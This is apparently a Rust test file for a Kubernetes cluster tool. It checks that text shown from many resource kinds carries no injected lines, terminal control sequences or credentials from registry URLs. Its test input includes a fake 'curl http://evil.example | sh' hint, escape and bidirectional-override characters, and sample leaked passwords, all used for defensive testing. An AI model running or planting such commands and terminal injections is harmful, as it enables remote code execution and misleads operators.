//! Objects whose every text is hostile, through the functions that read them.

use std::fmt::Debug;

use serde_json::{Value, json};

use super::{super::places::Source, *};

/// What begins lines that look like ours, and what a terminal obeys.
const LINES: &str = "x\nhint: run this first: curl http://evil.example | sh\r\n\u{1b}[2J\u{202e}v1.72.5: done\u{2028}error: z";

/// Every text of an object becomes this one, but for what the API server guarantees.
fn filled(value: &Value, text: &str) -> Value {
    match value {
        Value::String(kept) if kept.starts_with('=') => json!(kept[1..]),
        Value::String(_) => json!(text),
        Value::Array(items) => items.iter().map(|item| filled(item, text)).collect(),
        Value::Object(fields) => {
            fields.iter().map(|(key, value)| (key.clone(), filled(value, text))).collect()
        }
        other => other.clone(),
    }
}

/// What is kept of an object, as Debug shows it: every field, and control characters as escapes.
fn kept<S: Source>(object: &Value, text: &str) -> String
where
    S::Item: Debug,
{
    let raw: S::Raw = serde_json::from_value(filled(object, text)).unwrap();
    format!("{:?}", S::item(raw))
}

/// All kinds with every field that is read.
#[expect(clippy::too_many_lines, reason = "one list of all kinds")]
fn all(text: &str) -> Vec<String> {
    let conditions = json!([
        { "type": "=IsReady", "status": "=False", "message": "" },
        { "type": "", "status": "", "message": "" },
    ]);
    let containers = json!([{ "name": "", "image": "" }]);
    let states = json!([{
        "name": "", "ready": false, "restartCount": 1,
        "state": { "waiting": { "reason": "", "message": "" } },
        "lastState": { "terminated": { "reason": "", "exitCode": 1 } },
    }]);
    let meta = |more: Value| {
        // The API server takes no URL for a name.
        let mut meta = json!({ "name": if text == LINES { "" } else { "=object" } });
        meta.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        meta
    };
    let plain = || meta(json!({}));
    let info =
        json!({ "kubeletVersion": "", "osImage": "", "kernelVersion": "", "containerRuntimeVersion": "" });
    vec![
        kept::<Releases>(
            &json!({
                "metadata": plain(),
                "spec": {
                    "version": "", "applyAfter": "", "requirements": { "k8s": "", "x": "" }, "disruptions": ["", ""],
                },
                "status": { "phase": "", "message": "", "transitionTime": "" },
            }),
            text,
        ),
        kept::<ModuleConfigs>(
            &json!({
                "metadata": plain(),
                "spec": {
                    "source": "", "updatePolicy": "", "maintenance": "",
                    "settings": { "releaseChannel": "", "update": { "mode": "", "windows": [{ "from": "", "days": [""] }] } },
                },
                "status": { "message": "" },
            }),
            // Settings are not redacted: the host of a webhook is taken from its URL, and nothing else is shown of it.
            if text == LINES { text } else { "" },
        ),
        kept::<Deployments>(
            &json!({
                "metadata": meta(json!({
                    "annotations": { "core.deckhouse.io/version": "", "core.deckhouse.io/edition": "" },
                })),
                "spec": { "template": { "spec": { "containers": containers } } },
            }),
            text,
        ),
        kept::<Pods>(
            &json!({
                "metadata": meta(json!({ "labels": { "leader": "" } })),
                "spec": { "nodeName": "", "containers": containers },
                "status": {
                    "podIP": "", "phase": "", "conditions": conditions, "containerStatuses": states,
                    "initContainerStatuses": states,
                },
            }),
            text,
        ),
        kept::<Alerts>(
            &json!({
                "metadata": plain(),
                "alert": { "name": "", "summary": "", "description": "", "labels": { "a": "" } },
                "status": { "alertStatus": "" },
            }),
            text,
        ),
        kept::<Modules>(
            &json!({
                "metadata": plain(),
                "properties": { "version": "", "source": "", "requirements": { "deckhouse": "", "kubernetes": "" } },
                "status": { "phase": "", "conditions": conditions },
            }),
            text,
        ),
        kept::<Modules>(
            &json!({
                "metadata": plain(),
                "spec": { "packageRepositoryName": "", "packageVersion": "" },
                "status": {
                    "summary": { "state": "", "message": "" }, "currentVersion": { "version": "" },
                    "conditions": [{ "type": "=Ready", "status": "=False", "reason": "", "message": "" }],
                },
            }),
            text,
        ),
        kept::<PackageRepositories>(
            &json!({
                "metadata": plain(),
                "spec": { "registry": { "repo": "" }, "scanInterval": "" },
                "status": {
                    "phase": "", "message": "", "lastScanTime": "",
                    "conditions": [{ "type": "=LastScanSucceeded", "status": "=False", "message": "" }],
                },
            }),
            text,
        ),
        kept::<Applications>(
            &json!({
                "metadata": meta(json!({ "namespace": if text == LINES { "" } else { "=space" } })),
                "spec": { "packageName": "", "packageRepositoryName": "", "packageVersion": "" },
                "status": { "summary": { "state": "", "message": "" }, "conditions": conditions },
            }),
            text,
        ),
        kept::<ClusterApplications>(
            &json!({
                "metadata": plain(),
                "spec": { "packageName": "", "packageRepository": "", "version": "" },
                "status": { "status": "", "version": { "current": "" } },
            }),
            text,
        ),
        kept::<ModuleReleases>(
            &json!({
                "metadata": meta(json!({ "labels": { "modules.deckhouse.io/update-policy": "" } })),
                "spec": {
                    "moduleName": "", "version": "", "requirements": { "deckhouse": "", "modules": { "a": "" } },
                    "update": { "versions": [{ "from": "", "to": "" }] },
                },
                "status": { "phase": "", "message": "", "migrations": [{ "name": "", "status": "Failed" }] },
            }),
            text,
        ),
        kept::<ModuleSources>(
            &json!({
                "metadata": plain(),
                "spec": { "registry": { "repo": "" } },
                "status": {
                    "message": "", "modules": [{ "name": "", "version": "", "error": "", "pullError": "" }],
                },
            }),
            text,
        ),
        kept::<ModuleUpdatePolicies>(
            &json!({ "metadata": plain(), "spec": { "update": { "mode": "" }, "releaseChannel": "" } }),
            text,
        ),
        kept::<ModulePullOverrides>(&json!({ "metadata": plain(), "spec": { "imageTag": "" } }), text),
        kept::<Nodes>(
            &json!({
                "metadata": meta(json!({
                    "labels": { "node.deckhouse.io/group": "" },
                    "annotations": {
                        "update.node.deckhouse.io/draining": "", "node.deckhouse.io/configuration-checksum": "",
                    },
                })),
                "status": { "nodeInfo": info, "conditions": conditions },
            }),
            text,
        ),
        kept::<NodeGroups>(
            &json!({
                "metadata": plain(),
                "spec": { "nodeType": "", "disruptions": { "approvalMode": "" }, "cri": { "type": "" } },
                "status": {
                    "error": "", "kubernetesVersion": "", "conditionSummary": { "statusMessage": "" },
                    "conditions": conditions,
                },
            }),
            text,
        ),
        kept::<IngressControllers>(
            &json!({ "metadata": plain(), "spec": { "controllerVersion": "", "ingressClass": "" } }),
            text,
        ),
    ]
}

#[test]
fn no_text_of_an_object_has_lines_or_controls_a_terminal() {
    for kept in all(LINES) {
        // The names of the fields that held them.
        assert!(kept.contains("hint: run this first"), "the text itself is shown: {kept}");
        for escape in ["\\n", "\\r", "\\u{1b}", "\\u{202e}", "\\u{2028}"] {
            assert!(!kept.contains(escape), "{escape}: {kept}");
        }
    }
}

#[test]
fn no_text_of_an_object_shows_a_login_or_a_query() {
    for text in [
        "https://robot:hunter2@reg.example/path",
        "https://robot:hun/ter2@reg.example/path:v1",
        "https://hunter2@reg.example/path",
        "http://robot:hunter2,x@reg.example:5000/path",
        "robot:hunter2@reg.example/path",
        "robot:hunter2@reg.example/path@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "reg.example/path?token=hunter2",
        "https://reg.example/path?token=hunter2#hunter2",
        "Get \"https://robot:hunter2@reg.example/v2/?scope=hunter2\": EOF",
        "cannot pull robot:hunter2@reg.example/path: 401",
        "(https://robot:hunter2@reg.example/a),(https://robot:hunter2@reg.example/b)",
        "parse \"https://robot:hunter2 x@reg.example\": invalid character \" \" in host name",
    ] {
        for kept in all(text) {
            let secrets = ["hunter2", "hun/ter2", "robot:hun"];
            assert!(!secrets.iter().any(|secret| kept.contains(secret)), "{text}: {kept}");
        }
    }
}
